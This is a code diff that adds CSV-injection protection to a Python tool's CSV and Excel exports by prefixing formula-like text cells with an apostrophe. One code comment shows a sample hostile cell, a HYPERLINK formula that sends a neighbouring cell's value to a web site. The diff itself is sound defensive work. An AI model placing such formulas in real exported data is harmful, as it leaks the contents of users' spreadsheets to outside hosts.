@@ -854,23 +854,47 @@ def display(table: pd.DataFrame) -> pd.DataFrame:
     return localised(table).apply(lambda column: column.map(_cell)) if not table.empty else table
 
 
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
+# injection"): an organisation named =HYPERLINK("https://…"&A2, "…") would send the
+# neighbouring cell to a web site. Such a text cell gets a leading apostrophe, in the CSV and
+# in the Excel file alike; numbers are not text and stay numbers, negative ones too.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def defused(value):
+    """A text cell a spreadsheet would take for a formula, with a leading apostrophe."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def _defused(table: pd.DataFrame) -> pd.DataFrame:
+    """The table with every text cell and header `defused`; numbers untouched."""
+    return table.rename(columns=defused).apply(lambda column: column.map(defused)) \
+        if not table.empty else table.rename(columns=defused)
+
+
 def to_csv(table: pd.DataFrame, lang: str | None = None) -> bytes:
     """With a byte-order mark, so it opens as-is in Excel. Dutch: semicolons and decimal commas,
     Dutch headers; English: commas and decimal points, English headers. `lang` defaults to the
-    session's (a download button made later, outside the session, passes it)."""
+    session's (a download button made later, outside the session, passes it). No cell starts
+    a formula (`defused`)."""
     with using(lang or language()):
-        text = display_names(display(table)).to_csv(index=False, sep=";" if language() == "nl"
-                                                    else ",")
+        # defused before the numbers become text: "-3" from a number stays -3; a carriage
+        # return inside a cell as a line break, which the writer quotes (it does not quote \r)
+        cells = display(_defused(table)).replace("\r\n?", "\n", regex=True)
+        text = display_names(cells).to_csv(index=False, sep=";" if language() == "nl" else ",")
     return text.encode("utf-8-sig")
 
 
 def to_excel(tables: dict[str, pd.DataFrame], lang: str | None = None) -> bytes:
-    """One sheet per table, its name and headers in `lang` (default: the session's)."""
+    """One sheet per table, its name and headers in `lang` (default: the session's); no cell is
+    a formula (`defused`: openpyxl writes a text that starts with = as one)."""
     buffer = io.BytesIO()
     with using(lang or language()), pd.ExcelWriter(buffer, engine="openpyxl") as writer:
         for name, table in tables.items():
-            display_names(localised(table)).to_excel(writer, sheet_name=SHEETS.get(name, name)[:31],
-                                                     index=False)
+            _defused(display_names(localised(table))).to_excel(
+                writer, sheet_name=SHEETS.get(name, name)[:31], index=False)
     return buffer.getvalue()
 
 
